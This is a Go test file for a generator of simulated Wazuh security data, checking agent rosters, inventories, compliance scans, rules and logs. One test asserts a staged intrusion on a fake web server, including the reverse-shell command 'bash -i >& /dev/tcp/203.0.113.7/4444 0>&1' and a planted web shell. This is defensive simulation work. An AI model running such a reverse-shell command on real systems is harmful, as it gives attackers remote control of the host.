package dataset

import (
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/wazuh-mcp/wazuh-mcp/internal/wazuhsim/events"
)

var testNow = time.Date(2026, 11, 21, 15, 30, 0, 0, time.UTC)

// shared generates the dataset most tests read (generation is the costly
// part; the data is read-only).
var shared = sync.OnceValues(func() (*Dataset, error) {
	return Generate(Options{Seed: 7, Alerts: 3000, Now: testNow})
})

func load(t *testing.T) *Dataset {
	t.Helper()
	ds, err := shared()
	if err != nil {
		t.Fatalf("Generate: %v", err)
	}
	return ds
}

// managerSide strips the indexer part, whose indices carry functions.
func managerSide(ds *Dataset) Dataset {
	c := *ds
	c.Alerts, c.Vulnerabilities, c.AlertIndices, c.VulnerabilityIndices = nil, nil, nil, nil
	return c
}

func TestGenerateIsDeterministic(t *testing.T) {
	a, err := Generate(Options{Seed: 11, Alerts: 500, Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Generate(Options{Seed: 11, Alerts: 500, Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(managerSide(a), managerSide(b)) {
		t.Fatal("same seed and Now gave different manager-side data")
	}
	if len(a.Alerts) != len(b.Alerts) {
		t.Fatalf("alert counts differ: %d vs %d", len(a.Alerts), len(b.Alerts))
	}
	c, err := Generate(Options{Seed: 12, Alerts: 500, Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []struct {
		name string
		x, y any
	}{
		{"Syscollector", a.Syscollector, c.Syscollector},
		{"SCA", a.SCA, c.SCA},
		{"Syscheck", a.Syscheck, c.Syscheck},
		{"Manager.Logs", a.Manager.Logs, c.Manager.Logs},
	} {
		if reflect.DeepEqual(f.x, f.y) {
			t.Errorf("%s identical for different seeds", f.name)
		}
	}
	// The roster is fixed whatever the seed.
	for i := range a.Agents {
		if a.Agents[i]["name"] != c.Agents[i]["name"] || a.Agents[i]["status"] != c.Agents[i]["status"] {
			t.Errorf("agent %d differs across seeds", i)
		}
	}
}

func TestGenerateOptions(t *testing.T) {
	for _, tc := range []struct {
		name    string
		alerts  int
		wantErr bool
	}{
		{"negative", -1, true},
		{"too many", MaxAlerts + 1, true},
		{"default", 0, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ds, err := Generate(Options{Seed: 1, Alerts: tc.alerts, Now: testNow})
			if (err != nil) != tc.wantErr {
				t.Fatalf("err = %v, wantErr %v", err, tc.wantErr)
			}
			if err != nil {
				if !strings.Contains(err.Error(), "alerts") {
					t.Errorf("error %q does not name the option", err)
				}
				return
			}
			if len(ds.Alerts) != DefaultAlerts {
				t.Errorf("default alerts: got %d, want %d", len(ds.Alerts), DefaultAlerts)
			}
		})
	}
	ds, err := Generate(Options{Seed: 1, Alerts: 10})
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(ds.Now); d < 0 || d > time.Minute {
		t.Errorf("zero Now should default to the current time, got %v", ds.Now)
	}
}

func TestRoster(t *testing.T) {
	ds := load(t)
	want := []struct {
		id, name, status, platform string
		groups                     string
	}{
		{"000", "wazuh-manager", "active", "ubuntu", ""},
		{"001", "web-01", "active", "ubuntu", "default,linux,webservers"},
		{"003", "db-01", "active", "rhel", "default,linux,dbservers"},
		{"007", "k8s-node-01", "active", "amzn", "default,linux,kubernetes"},
		{"010", "dc-01", "active", "windows", "default,windows,domain-controllers"},
		{"014", "ws-fin-02", "disconnected", "windows", "default,windows,workstations"},
		{"017", "mac-dev-01", "active", "darwin", "default,macos,workstations"},
		{"020", "legacy-app-01", "disconnected", "centos", "default,linux"},
		{"021", "test-vm-01", "never_connected", "", "default"},
		{"022", "ws-sales-01", "disconnected", "windows", "default,windows,workstations"},
		{"023", "mac-exec-01", "never_connected", "", "default"},
		{"024", "proxy-01", "active", "debian", "default,linux,dmz"},
		{"025", "monitor-01", "pending", "rocky", "default"},
	}
	if len(ds.Agents) != 26 {
		t.Fatalf("got %d agents, want 26", len(ds.Agents))
	}
	byID := map[string]Item{}
	for _, a := range ds.Agents {
		byID[a["id"].(string)] = a
	}
	for _, w := range want {
		a, ok := byID[w.id]
		if !ok {
			t.Errorf("agent %s missing", w.id)
			continue
		}
		if a["name"] != w.name || a["status"] != w.status {
			t.Errorf("agent %s: got %v/%v, want %s/%s", w.id, a["name"], a["status"], w.name, w.status)
		}
		var platform string
		if os, ok := a["os"].(Item); ok {
			platform, _ = os["platform"].(string)
		}
		if platform != w.platform {
			t.Errorf("agent %s platform %q, want %q", w.id, platform, w.platform)
		}
		var groups []string
		if g, ok := a["group"].([]any); ok {
			for _, x := range g {
				groups = append(groups, x.(string))
			}
		}
		if strings.Join(groups, ",") != w.groups {
			t.Errorf("agent %s groups %v, want %s", w.id, groups, w.groups)
		}
	}
	if k := byID["000"]["lastKeepAlive"]; k != "9999-12-31T23:59:59+00:00" {
		t.Errorf("manager lastKeepAlive %v", k)
	}
	if _, ok := byID["014"]["disconnection_time"]; !ok {
		t.Error("disconnected agent has no disconnection_time")
	}
	for _, id := range []string{"021", "023"} {
		for _, k := range []string{"os", "version", "lastKeepAlive"} {
			if _, ok := byID[id][k]; ok {
				t.Errorf("never-connected agent %s has %s", id, k)
			}
		}
	}
}

func TestGroupsCountAgents(t *testing.T) {
	ds := load(t)
	counts := map[string]int{}
	for _, a := range ds.Agents {
		if g, ok := a["group"].([]any); ok {
			for _, x := range g {
				counts[x.(string)]++
			}
		}
	}
	if len(ds.Groups) != len(counts) {
		t.Fatalf("got %d groups, want %d", len(ds.Groups), len(counts))
	}
	for _, g := range ds.Groups {
		if g["count"] != counts[g["name"].(string)] {
			t.Errorf("group %v count %v, want %d", g["name"], g["count"], counts[g["name"].(string)])
		}
	}
}

func TestInventoryOnlyForReportingAgents(t *testing.T) {
	ds := load(t)
	for _, a := range ds.Agents {
		id, status := a["id"].(string), a["status"].(string)
		reports := status == "active" || status == "disconnected"
		for name, has := range map[string]bool{
			"syscollector": ds.Syscollector[id] != nil, "sca": ds.SCA[id] != nil, "syscheck": ds.Syscheck[id] != nil,
			"config": ds.AgentConfig[id] != nil, "logcollector": ds.Logcollector[id] != nil,
		} {
			if has != reports {
				t.Errorf("agent %s (%s): %s present=%v", id, status, name, has)
			}
		}
	}
}

func TestInventorySizes(t *testing.T) {
	ds := load(t)
	for id, sys := range ds.Syscollector {
		family := agentFamily(ds, id)
		np, nproc := len(sys["packages"]), len(sys["processes"])
		if family == "linux" && (np < 60 || np > 150) {
			t.Errorf("agent %s: %d packages, want 60-150", id, np)
		}
		if np == 0 || nproc < 20 || nproc > 80 {
			t.Errorf("agent %s: %d packages, %d processes", id, np, nproc)
		}
		if family == "windows" && len(sys["hotfixes"]) == 0 {
			t.Errorf("windows agent %s has no hotfixes", id)
		}
		if n := len(ds.Syscheck[id]); n < 25 || n > 100 {
			t.Errorf("agent %s: %d FIM entries", id, n)
		}
		for _, p := range sys["packages"] {
			if p["agent_id"] != id || p["scan"] == nil {
				t.Fatalf("agent %s: package without agent_id/scan: %v", id, p)
			}
		}
	}
}

func agentFamily(ds *Dataset, id string) string {
	for _, a := range ds.Agents {
		if a["id"] == id {
			switch a["os"].(Item)["platform"] {
			case "windows":
				return "windows"
			case "darwin":
				return "macos"
			}
			return "linux"
		}
	}
	return ""
}

func TestSCACountsAreConsistent(t *testing.T) {
	ds := load(t)
	for id, policies := range ds.SCA {
		for _, p := range policies {
			pid := p["policy_id"].(string)
			checks := ds.SCAChecks[id][pid]
			if n := len(checks); n < 40 || n > 120 {
				t.Errorf("agent %s %s: %d checks, want 40-120", id, pid, n)
			}
			var pass, fail, na int
			for _, c := range checks {
				switch c["result"] {
				case "passed":
					pass++
				case "failed":
					fail++
				case "not applicable":
					na++
					if c["reason"] == nil {
						t.Errorf("agent %s check %v: not applicable without reason", id, c["id"])
					}
				default:
					t.Errorf("agent %s check %v: result %v", id, c["id"], c["result"])
				}
				if c["policy_id"] != pid || len(c["compliance"].([]any)) == 0 || len(c["rules"].([]any)) == 0 {
					t.Errorf("agent %s check %v: bad policy/compliance/rules", id, c["id"])
				}
			}
			if p["pass"] != pass || p["fail"] != fail || p["invalid"] != na || p["total_checks"] != len(checks) {
				t.Errorf("agent %s %s: summary %v/%v/%v/%v, checks %d/%d/%d/%d", id, pid, p["pass"], p["fail"], p["invalid"], p["total_checks"], pass, fail, na, len(checks))
			}
			if want := pass * 100 / (pass + fail); p["score"] != want {
				t.Errorf("agent %s %s: score %v, want %d", id, pid, p["score"], want)
			}
		}
	}
}

func TestWeb01IncidentArtefacts(t *testing.T) {
	ds := load(t)
	var shellPid string
	for _, p := range ds.Syscollector["001"]["processes"] {
		if p["cmd"] == IncidentDropperPath {
			shellPid = p["pid"].(string)
			if p["euser"] != "www-data" || !strings.Contains(p["argvs"].(string), "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1") {
				t.Errorf("reverse shell process: %v", p)
			}
		}
	}
	if shellPid == "" {
		t.Fatal("no /tmp/.x/kworker process on web-01")
	}
	found := false
	for _, p := range ds.Syscollector["001"]["ports"] {
		r := p["remote"].(Item)
		if r["ip"] == events.AttackerSSHIP && r["port"] == 4444 {
			found = true
			if p["state"] != "established" || itoa(p["pid"].(int)) != shellPid {
				t.Errorf("reverse shell socket: %v", p)
			}
		}
	}
	if !found {
		t.Error("no connection to 203.0.113.7:4444 on web-01")
	}
	shell := false
	for _, f := range ds.Syscheck["001"] {
		if f["file"] == events.WebShellPath {
			shell = f["sha256"] == events.WebShellSHA256 && f["md5"] == events.WebShellMD5
		}
	}
	if !shell {
		t.Error("web shell missing from web-01 FIM or digests differ from events")
	}
	for _, id := range []string{"002", "003"} {
		for _, f := range ds.Syscheck[id] {
			if f["file"] == events.WebShellPath {
				t.Errorf("web shell on agent %s", id)
			}
		}
	}
}

func TestMaliciousIOCLists(t *testing.T) {
	ds := load(t)
	lists := map[string]map[string]bool{}
	for _, l := range ds.Lists {
		keys := map[string]bool{}
		for _, it := range l["items"].([]any) {
			keys[it.(Item)["key"].(string)] = true
		}
		lists[l["relative_dirname"].(string)+"/"+l["filename"].(string)] = keys
	}
	ips := lists["etc/lists/malicious-ioc/malicious-ip"]
	for _, ip := range []string{events.AttackerSSHIP, events.AttackerWebIP} {
		if !ips[ip] {
			t.Errorf("malicious-ip lacks %s", ip)
		}
	}
	doc := 0
	for ip := range ips {
		if strings.HasPrefix(ip, "192.0.2.") || strings.HasPrefix(ip, "198.51.100.") || strings.HasPrefix(ip, "203.0.113.") {
			doc++
		}
	}
	if doc != len(ips) || doc < 30 {
		t.Errorf("malicious-ip: %d documentation-range of %d", doc, len(ips))
	}
	if !lists["etc/lists/malicious-ioc/malware-hashes"][events.WebShellSHA256] {
		t.Error("malware-hashes lacks the web shell sha256")
	}
	for _, want := range []string{"etc/lists/audit-keys", "etc/lists/security-eventchannel", "etc/lists/amazon/aws-eventnames", "etc/lists/malicious-ioc/malicious-domains"} {
		if lists[want] == nil {
			t.Errorf("list %s missing", want)
		}
	}
}

func TestRulesMatchCatalogue(t *testing.T) {
	ds := load(t)
	rules := events.Ruleset()
	if len(ds.Rules) != len(rules) {
		t.Fatalf("got %d rules, want %d", len(ds.Rules), len(rules))
	}
	for i, r := range rules {
		it := ds.Rules[i]
		if it["id"] != r.ID || it["filename"] != r.File || it["level"] != r.Level {
			t.Fatalf("rule %d: %v", r.ID, it)
		}
		if !strings.Contains(ds.RuleFileXML[r.File], `<rule id="`+itoa(r.ID)+`"`) {
			t.Errorf("rule %d missing from %s", r.ID, r.File)
		}
	}
	if len(ds.RuleFiles) != len(ds.RuleFileXML) {
		t.Errorf("%d rule files, %d XML bodies", len(ds.RuleFiles), len(ds.RuleFileXML))
	}
	if len(ds.MitreTechniques) != len(events.Techniques()) {
		t.Errorf("%d techniques, want %d", len(ds.MitreTechniques), len(events.Techniques()))
	}
	tactics := map[string]bool{}
	for _, tac := range ds.MitreTactics {
		tactics[tac["id"].(string)] = true
	}
	for _, tech := range ds.MitreTechniques {
		for _, id := range tech["tactics"].([]any) {
			if !tactics[id.(string)] {
				t.Errorf("technique %v: tactic %v not in MitreTactics", tech["external_id"], id)
			}
		}
	}
}

func TestManagerStatsFollowAlerts(t *testing.T) {
	ds := load(t)
	day := time.Date(testNow.Year(), testNow.Month(), testNow.Day(), 0, 0, 0, 0, time.UTC)
	today := 0
	for _, d := range ds.Alerts {
		if at := factsOf(d).at; !at.Before(day) && !at.After(testNow) {
			today++
		}
	}
	sum := 0
	for _, b := range ds.Manager.Stats {
		sum += b["totalAlerts"].(int)
	}
	if sum != today {
		t.Errorf("stats total %d, alerts today %d", sum, today)
	}
	if len(ds.Manager.Stats) != testNow.Hour()+1 {
		t.Errorf("%d hourly buckets, want %d", len(ds.Manager.Stats), testNow.Hour()+1)
	}
	if got := ds.Manager.Analysisd[0]["alerts_written"]; got != float64(len(ds.Alerts)) {
		t.Errorf("alerts_written %v, want %d", got, len(ds.Alerts))
	}
}

func TestManagerLogs(t *testing.T) {
	ds := load(t)
	logs := ds.Manager.Logs
	if len(logs) < 1500 || len(logs) > 2500 {
		t.Fatalf("%d log lines", len(logs))
	}
	levels := map[string]int{}
	for i, l := range logs {
		levels[l["level"].(string)]++
		if i > 0 && l["timestamp"].(string) > logs[i-1]["timestamp"].(string) {
			t.Fatalf("logs not newest first at %d", i)
		}
	}
	if levels["info"] < len(logs)/2 || levels["warning"] == 0 || levels["error"] == 0 {
		t.Errorf("level mix %v", levels)
	}
	total := 0
	for _, s := range ds.Manager.LogsSummary {
		for _, v := range s {
			total += v.(Item)["all"].(int)
		}
	}
	if total != len(logs) {
		t.Errorf("summary counts %d lines, logs have %d", total, len(logs))
	}
	for _, name := range []string{"ws-fin-02", "legacy-app-01", "ws-sales-01"} {
		ok := false
		for _, l := range logs {
			if l["level"] == "warning" && strings.Contains(l["description"].(string), name) {
				ok = true
				break
			}
		}
		if !ok {
			t.Errorf("no disconnection warning for %s", name)
		}
	}
}

func TestManagerConfigHasSecretsToRedact(t *testing.T) {
	ds := load(t)
	cfg := ds.Manager.Config
	if cfg["cluster"].(Item)["key"] != ClusterKey {
		t.Error("cluster key missing")
	}
	found := false
	for _, it := range cfg["integration"].([]any) {
		if _, ok := it.(Item)["api_key"]; ok {
			found = true
		}
	}
	if !found {
		t.Error("no integration api_key")
	}
	for _, section := range []string{"global", "alerts", "remote", "syscheck", "rootcheck", "ruleset", "auth", "cluster", "vulnerability-detection", "indexer"} {
		if cfg[section] == nil {
			t.Errorf("config section %s missing", section)
		}
	}
}

func BenchmarkGenerate10k(b *testing.B) {
	for b.Loop() {
		if _, err := Generate(Options{Seed: 1, Alerts: 10000, Now: testNow}); err != nil {
			b.Fatal(err)
		}
	}
}
